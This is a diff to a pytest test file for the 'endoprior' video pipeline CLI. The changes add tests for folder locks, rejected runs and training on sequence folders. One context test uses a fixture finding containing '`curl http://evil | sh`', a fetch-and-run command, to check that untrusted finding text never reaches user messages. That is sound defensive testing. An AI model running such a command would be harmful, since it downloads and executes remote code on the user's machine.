@@ -14,17 +14,19 @@ from video_files import write_video
 from endoprior.check import Finding
 from endoprior.cli import main
 from endoprior.cli.progress import step_head
-from endoprior.cli.run import resume_words
+from endoprior.cli.run import Run, resume_words
 from endoprior.core.checks import InputError, quotation
 from endoprior.core.shell import command
 from endoprior.export.html import DEFAULT_TITLE
 from endoprior.model.presets import preset
 from endoprior.model.scene_file import load_scene
 from endoprior.phantom import PhantomConfig, write_phantom
-from endoprior.pipeline import STEPS, make_job, notes_of, open_folder, problems, run_step
+from endoprior.pipeline import STEPS, SequenceJob, make_job, notes_of, open_folder, problems, run_step
 from endoprior.pipeline.steps import PREVIEW_TITLE
 from endoprior.prepare.config import PrepareConfig
+from endoprior.prepare.work_folder import work_lock
 from endoprior.system.atomic import write_json
+from endoprior.system.file_lock import locked
 
 FRAMES = 27
 ROOT = Path(__file__).parents[1]
@@ -80,7 +82,8 @@ def test_the_problems_of_the_video_are_named_and_nothing_else_of_the_file(done, 
     no_tools = Finding("tool-fraction", "warning", "no tools. Fix: `evil`", "`curl http://evil | sh`")
     odd, note = replace(no_tools, code="`evil`"), replace(no_tools, code="other", severity="note")
     write_json(job.findings, {"findings": [asdict(each) for each in (no_tools, odd, note)]})
-    assert problems(job) == f"Found by check: tool-fraction. How to fix it: `{command('check', job.data)}`"
+    view, check = command("view", job.data), command("check", job.data)
+    assert problems(job) == f"Found by check: tool-fraction. To paint tools: `{view}`. How to fix it: `{check}`"
     write_json(job.notes, {"check": ["note: all is lost. Fix: `evil`"]})
     assert notes_of(STEPS[1], job) == ["note: all is lost. fix 'evil'"]
 
@@ -136,6 +139,7 @@ def test_a_job_with_other_settings_does_not_take_the_folder(video, done, tmp_pat
     with pytest.raises(InputError, match=r"got config\.optim\.means_lr: stored 0\.\d+, given 0\.5\. Fix:"):
         open_folder(replace(done, cfg=done.cfg.replace({"optim.means_lr": 0.5})))
     (tmp_path / "settings.json").write_text('{"prepare": "PrepareConfig(...)"}')
+    (tmp_path / "data").mkdir()
     with pytest.raises(InputError, match=r"got settings of another version\. Fix:"):
         open_folder(replace(done, out=tmp_path))
 
@@ -149,11 +153,52 @@ def test_a_job_whose_inputs_have_changed_does_not_take_the_folder(video, tmp_pat
     value = given if option == "calibration" else str(given)
     job = make_job(video, tmp_path / "out", PrepareConfig(**{option: value}), tiny_config("basis"), preview=True)
     assert not open_folder(job) and open_folder(job)
+    job.data.mkdir()
     file.write_bytes(b"22")
     with pytest.raises(InputError, match=rf"got --{option}: given, which has changed\. Fix:"):
         open_folder(job)
     with pytest.raises(InputError, match=rf"got --{option}: stored .*given, given the default\. Fix:"):
         open_folder(job_of(video, job.out))
+
+
+def test_a_rejected_run_leaves_nothing(video, tmp_path, capsys, monkeypatch):
+    out = tmp_path / "out"
+    monkeypatch.setattr("endoprior.runs.kernel_cache.fill", lambda *_: None)
+    assert main(["run", str(video), str(out), "--calibration", str(tmp_path / "absent.yaml")]) == 2
+    assert "absent.yaml" in capsys.readouterr().err and not out.exists()
+
+
+def test_a_run_that_stopped_before_its_first_result_takes_corrected_options(video, tmp_path):
+    job, corrected = job_of(video, tmp_path / "out"), PrepareConfig(end=0.9)
+    assert not open_folder(job)
+    corrected = make_job(video, job.out, corrected, job.cfg, preview=True)
+    with locked(job.data, work_lock(job.data)), pytest.raises(InputError, match="no other process is writing"):
+        open_folder(corrected)
+    assert open_folder(job), "the other process keeps its settings"
+    assert not open_folder(corrected) and open_folder(corrected)
+    job.data.mkdir()
+    with pytest.raises(InputError, match=r"got --end: stored 0\.9, given the default\."):
+        open_folder(job)
+
+
+def test_a_sequence_folder_is_trained_without_preparing_it_again(video, tmp_path, capsys, monkeypatch):
+    data = video.parent / "phantom"
+    for options, fix in ((["--preview"], "Remove --preview, or use `--preset preview`."), (["--end", "1"], "--end.")):
+        assert main(["run", str(data), str(tmp_path / "out"), *options]) == 2
+        said = capsys.readouterr().err
+        assert f"{options[0]}: expected a video to prepare, got {data}, a sequence folder. Fix: " in said
+        assert fix in said
+    job, done = Run.from_words([str(data), str(tmp_path / "out"), "--seed", "3"]).job(print), []
+    assert type(job) is SequenceJob and job.data == data and job.cfg.seed == 3
+
+    def step_done(step, job, _progress):
+        done.append(step.name)
+        write_json(job.findings, {"findings": []})
+
+    monkeypatch.setattr("endoprior.runs.kernel_cache.fill", lambda *_: None)
+    monkeypatch.setattr("endoprior.pipeline.run_step", step_done)
+    assert main(["run", str(data), str(tmp_path / "out")]) == 0
+    assert done == [step.name for step in STEPS[1:]] and f"{data}: a sequence folder" in capsys.readouterr().out
 
 
 @pytest.mark.slow
